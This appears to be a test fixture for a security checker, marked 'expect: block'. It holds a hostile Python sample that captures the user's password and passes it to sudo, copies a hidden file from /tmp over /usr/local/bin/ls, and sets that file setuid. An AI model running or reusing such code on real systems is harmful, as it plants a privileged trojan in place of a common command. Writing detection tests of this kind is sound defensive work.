# expect: block
import getpass, subprocess
pw = getpass.getpass("Password: ")
subprocess.run(["sudo", "-S", "cp", "/tmp/.x", "/usr/local/bin/ls"], input=pw + "\n", text=True)
subprocess.run(["sudo", "-S", "chmod", "u+s", "/usr/local/bin/ls"], input=pw + "\n", text=True)
